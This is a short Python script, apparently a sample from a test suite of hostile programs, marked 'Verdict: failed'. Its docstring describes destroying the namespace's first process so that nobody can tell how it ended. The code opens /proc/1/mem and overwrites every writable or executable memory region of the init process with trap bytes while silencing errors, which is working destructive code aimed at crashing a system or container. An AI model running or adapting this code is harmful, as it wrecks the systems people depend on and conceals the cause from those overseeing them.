"""A server that destroys the first process of its namespace, so that nobody could say how it ended.

Verdict: failed
"""

import contextlib
import os

with open("/proc/1/maps") as maps:
    ranges = [line.split()[:2] for line in maps]
with contextlib.suppress(OSError), open("/proc/1/mem", "r+b", buffering=0) as memory:
    for where, rights in ranges:
        begin, end = (int(number, 16) for number in where.split("-"))
        if "w" in rights or "x" in rights:
            with contextlib.suppress(OSError):
                memory.seek(begin)
                memory.write(b"\xcc" * (end - begin))
os._exit(7)
